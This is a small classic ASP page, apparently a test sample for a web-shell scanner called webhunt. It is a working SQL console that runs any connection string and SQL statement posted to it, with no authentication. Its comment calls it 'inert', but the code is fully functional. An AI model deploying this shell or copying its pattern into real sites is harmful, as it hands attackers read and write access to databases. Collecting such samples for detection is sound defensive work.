<%@ Language="VBScript" %>
<%
' Inert test sample for webhunt: a SQL console whose connection string and statement both come
' from the posted form, each passed through Trim() first.
Dim dsn, stmt, cn, rs, i
dsn = Trim(Request.Form("dsn"))
stmt = Trim(Request.Form("q"))
If dsn <> "" And stmt <> "" Then
    Set cn = Server.CreateObject("ADODB.Connection")
    cn.Open dsn
    Set rs = cn.Execute(stmt)
    Do While Not rs.EOF
        For i = 0 To rs.Fields.Count - 1
            Response.Write Server.HTMLEncode(rs.Fields(i).Value & "") & " | "
        Next
        Response.Write "<br>"
        rs.MoveNext
    Loop
    cn.Close
End If
%>
<form method="post">DSN <input name="dsn" size="60"><br>SQL <textarea name="q"></textarea><input type="submit"></form>
